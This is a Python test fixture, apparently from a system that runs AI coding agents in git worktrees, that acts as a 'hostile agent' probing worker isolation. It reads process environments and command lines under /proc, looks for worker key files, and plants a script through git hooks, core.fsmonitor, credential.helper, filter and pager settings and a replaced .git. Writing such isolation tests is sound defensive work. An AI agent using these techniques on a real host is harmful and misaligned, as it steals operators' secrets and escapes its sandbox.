#!/usr/bin/python3
"""A hostile agent: run by the fake CLI (``@fake exec``) inside a job's worktree, it tries
every way we know to reach the worker's secrets or to make the worker run its code, and
writes what it saw into DROP (argv[1]) for the test to search.

Usage: hostile_agent.py DROP [replace-dotgit]
"""

import os
import subprocess
import sys
from pathlib import Path

drop = Path(sys.argv[1])
replace_dotgit = "replace-dotgit" in sys.argv[2:]
tag = f"{os.getpid()}-{os.urandom(3).hex()}"
seen = drop / f"seen-{tag}.txt"
notes: list[str] = [f"uid={os.getuid()} gid={os.getgid()} cwd={os.getcwd()}"]


def note(text: str) -> None:
    notes.append(text)


# 1. its own environment
note("ENV " + repr(dict(os.environ)))

# 2. every process it can see, ancestors first
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
note(f"PIDS {pids}")
ancestors, pid = [], os.getpid()
while pid > 0:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        break
    pid = int(next(line.split()[1] for line in status.splitlines() if line.startswith("PPid")))
    ancestors.append(pid)
note(f"ANCESTORS {ancestors}")
for target in sorted(set(pids) | set(ancestors) | {1, os.getppid()}):
    for what in ("environ", "cmdline"):
        try:
            note(
                f"/proc/{target}/{what} "
                + Path(f"/proc/{target}/{what}").read_bytes().decode("utf-8", "replace")
            )
        except OSError as exc:
            note(f"/proc/{target}/{what} refused: {exc}")

# 3. the worker's own files, by guessing from the worktree path
worktree = Path.cwd()
home = worktree.parent.parent
for path in [home, home / "jobs", home / "celery", home / "keys", home / "cli.key"]:
    try:
        note(f"LIST {path} {os.listdir(path) if path.is_dir() else path.read_text()}")
    except OSError as exc:
        note(f"LIST {path} refused: {exc}")

# 4. make the worker's git run our code: an evil program that records who ran it
own = drop / f"run-{tag}"  # each agent's own: another job's agent is another uid
own.mkdir()
evil = own / "evil.sh"
evil.write_text(
    f'#!/bin/sh\nenv > "{drop}/evil-ran-$$.txt"; id >> "{drop}/evil-ran-$$.txt"\nexit 0\n'
)
evil.chmod(0o755)
hooks = own / "hooks"
hooks.mkdir()
for hook in (
    "pre-commit",
    "post-commit",
    "pre-push",
    "reference-transaction",
    "post-checkout",
    "post-index-change",
    "push-to-checkout",
):
    (hooks / hook).write_text(evil.read_text())
    (hooks / hook).chmod(0o755)


def git(*args: str) -> None:
    proc = subprocess.run(["git", *args], capture_output=True, text=True)
    note(f"git {' '.join(args)} -> {proc.returncode} {proc.stderr.strip()[:200]}")


for key, value in (
    ("core.fsmonitor", str(evil)),
    ("core.hooksPath", str(hooks)),
    ("core.sshCommand", str(evil)),
    ("credential.helper", f"!{evil}"),
    ("filter.evil.clean", str(evil)),
    ("core.pager", str(evil)),
):
    git("config", key, value)
    git("config", "--worktree", key, value)
(worktree / ".gitattributes").write_text("* filter=evil\n")

gitdir = Path((worktree / ".git").read_text().split(":", 1)[1].strip())
common = (gitdir / Path((gitdir / "commondir").read_text().strip())).resolve()
note(f"GITDIR {gitdir} COMMON {common}")
for target in (common / "config", common / "hooks" / "pre-push", gitdir / "config.worktree"):
    try:
        with open(target, "a") as handle:
            handle.write(f"\n[core]\n\tfsmonitor = {evil}\n\thooksPath = {hooks}\n")
        note(f"WROTE {target}")
    except OSError as exc:
        note(f"WRITE {target} refused: {exc}")
if replace_dotgit:
    try:
        (gitdir / "commondir").write_text(str(own / "fakerepo"))
        note("WROTE commondir")
    except OSError as exc:
        note(f"WRITE commondir refused: {exc}")
    fake = worktree / ".git"
    fake.unlink()
    subprocess.run(["git", "init", "-q", str(worktree)], capture_output=True)
    git("config", "core.fsmonitor", str(evil))
    git("config", "core.hooksPath", str(hooks))
    note("REPLACED .git")

seen.write_text("\n".join(notes))
print(f"hostile agent done: {seen}")
